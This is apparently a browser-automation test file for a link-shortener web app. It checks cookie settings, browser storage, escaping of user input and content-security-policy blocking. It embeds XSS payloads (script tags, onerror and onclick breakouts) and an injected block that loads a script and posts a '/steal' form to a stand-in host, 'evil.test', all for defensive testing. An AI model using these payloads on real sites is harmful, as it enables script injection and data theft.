import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { connectToBrowser } from '../../../../tools/testing/browser/browser-server.ts'
import { startOtherSite } from '../../../../tools/testing/browser/other-site.ts'
import { bearer, environmentFor, operator, setUp, shorten } from '../process/support/accounts.ts'
import { type Program, startProgram } from '../process/support/program.ts'
import { openStorage, type Storage } from '../support/storage.ts'
import { signInAs, visit } from './support/visit.ts'

let browser: Browser
let storage: Storage
let program: Program

beforeAll(async () => {
  browser = await connectToBrowser()
  storage = await openStorage('sqlite')
  program = await startProgram({ env: environmentFor(storage, { AUTH_TOKEN: bearer }) })
  await setUp(program)
})

afterAll(async () => {
  await browser.close()
  await program[Symbol.asyncDispose]()
  await storage[Symbol.asyncDispose]()
})

describe('cookies and storage', () => {
  it('sign-in sets a non-persistent HttpOnly session cookie and a device cookie', async () => {
    await using ann = await visit(browser, program)
    await signInAs(ann, operator)

    const cookies = await ann.page.context().cookies()
    const stored = {
      domain: 'localhost',
      path: '/',
      httpOnly: true,
      secure: false,
      sameSite: 'Lax',
    }
    const inHalfAYear = Date.now() / 1_000 + 180 * 86_400
    expect(cookies.toSorted((a, b) => a.name.localeCompare(b.name))).toEqual([
      // Binds the challenge of a passkey, which the sign-in page offers.
      expect.objectContaining({ ...stored, name: 'browser-dev' }),
      expect.objectContaining({
        ...stored,
        name: 'device-dev',
        expires: expect.closeTo(inHalfAYear, -3),
      }),
      expect.objectContaining({ ...stored, name: 'session-dev', expires: -1 }),
    ])
    expect(await ann.page.evaluate(() => document.cookie)).toBe('')
  })

  it('a remembered session has a persistent cookie', async () => {
    await using ann = await visit(browser, program)
    await ann.open('/login')
    await ann.page.getByLabel('Email').fill(operator.email)
    await ann.page.getByLabel('Password', { exact: true }).fill(operator.password)
    await ann.page.getByLabel('Stay signed in').check()
    await ann.page.getByRole('button', { name: 'Sign in', exact: true }).click()
    await ann.page.waitForURL('/dashboard')

    const cookies = await ann.page.context().cookies()
    const [session] = cookies.filter(({ name }) => name === 'session-dev')
    const days = ((session?.expires ?? 0) * 1_000 - Date.now()) / 86_400_000
    expect(days).toBeGreaterThan(13)
    expect(days).toBeLessThan(30.01)
  })

  it('nothing else is stored in the browser', async () => {
    await using ann = await visit(browser, program)
    await signInAs(ann, operator)
    for (const path of ['/', '/create', '/dashboard', '/login']) {
      await ann.open(path)
      const stored = await ann.page.evaluate(async () => [
        ...Object.keys(localStorage),
        ...Object.keys(sessionStorage),
        ...(await indexedDB.databases()),
        ...(await caches.keys()),
        ...(await navigator.serviceWorker.getRegistrations()),
      ])
      expect([path, stored]).toEqual([path, []])
    }
  })
})

describe('hostile user input', () => {
  const markup = `"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'&lt;b&gt;`

  /** The markup is shown as text, and none of it is executed. */
  async function expectHarmless(page: Page): Promise<void> {
    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
    // Pages of links have a script of their own.
    const injected = page.locator('main img, main script:not([src*="/shortcuts"])')
    expect(await injected.count()).toBe(0)
  }

  it("is shown as text in the dashboard's search field", async () => {
    await using ann = await visit(browser, program)
    await shorten(program, 'https://example.com/')
    await signInAs(ann, operator)
    await ann.open(`/dashboard?q=${encodeURIComponent(markup)}`)
    expect(await ann.page.locator('main').innerText()).toContain(markup)
    expect(await ann.page.getByLabel('Search links').inputValue()).toBe(markup)
    await expectHarmless(ann.page)
    expect(ann.errors).toEqual([])
  })

  it('is shown as text in a rejected form', async () => {
    await using ann = await visit(browser, program)
    await signInAs(ann, operator)
    await ann.open('/create')
    const form = ann.page.locator('main form')
    await form.evaluate((element: HTMLFormElement) => {
      element.noValidate = true
    })
    await ann.page.getByLabel('Destination URL').fill(markup)
    await ann.page.getByRole('button', { name: 'Create link' }).click()
    await ann.page.locator('[aria-invalid]').first().waitFor()
    expect(await ann.page.getByLabel('Destination URL').inputValue()).toBe(markup)
    await expectHarmless(ann.page)
    expect(ann.errors).toEqual([])
  })

  it('is shown as text in the destination of a link', async () => {
    await using ann = await visit(browser, program)
    const destination = `https://example.com/'onclick='window.pwned=1'#&quot;&lt;script&gt;`
    const code = await shorten(program, destination)
    await signInAs(ann, operator)
    for (const path of [`/${code}+`, '/dashboard', `/links/${code}/edit`]) {
      await ann.open(path)
      const shown = ann.page.getByLabel('Destination URL').or(ann.page.getByText(destination))
      expect(await shown.count()).toBe(1)
      await expectHarmless(ann.page)
    }
    expect(ann.errors).toEqual([])
  })
})

it('CSP: injected scripts do not run and injected forms are not submitted', async () => {
  await using otherSite = await startOtherSite()
  await using ann = await visit(browser, program)
  const { page } = ann
  const injected = `<script>window.pwned = 'inline'</script>
    <img src="x" onerror="window.pwned = 'handler'">
    <script src="${otherSite.urlOf('evil.test', '/pwn.js')}"></script>
    <script nonce="">window.pwned = 'nonce'</script>
    <base href="${otherSite.urlOf('evil.test', '/')}">
    <form id="away" action="${otherSite.urlOf('evil.test', '/steal')}" method="post"></form>
    <iframe src="${otherSite.urlOf('evil.test', '/frame')}"></iframe>
    <img src="${otherSite.urlOf('evil.test', '/pixel')}">`
  await page.route('**/login', async (route) => {
    const response = await route.fetch()
    const body = (await response.text()).replace('</main>', `${injected}</main>`)
    await route.fulfill({ response, body })
  })

  await ann.open('/login')
  await page.locator('#away').evaluate((form: HTMLFormElement) => form.submit())
  await expect.poll(() => ann.errors.filter((text) => /form-action/.test(text))).toHaveLength(1)

  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(await page.evaluate(() => document.baseURI)).toBe(`${program.baseUrl}/login`)
  expect(otherSite.requestedPaths).toEqual([])
  const blocked = ann.errors.join('\n')
  for (const directive of ['script-src', 'img-src', 'base-uri'])
    expect(blocked).toContain(directive)
})

it('a request to 127.0.0.1 is redirected to the configured host', async () => {
  await using ann = await visit(browser, program)
  await ann.page.goto(`http://127.0.0.1:${program.port}/login?next=%2Fcreate`)
  expect(ann.page.url()).toBe(`${program.baseUrl}/login?next=%2Fcreate`)
  await ann.page.getByLabel('Email').fill(operator.email)
  await ann.page.getByLabel('Password', { exact: true }).fill(operator.password)
  await ann.page.getByRole('button', { name: 'Sign in', exact: true }).click()
  await ann.page.waitForURL('/create')
})
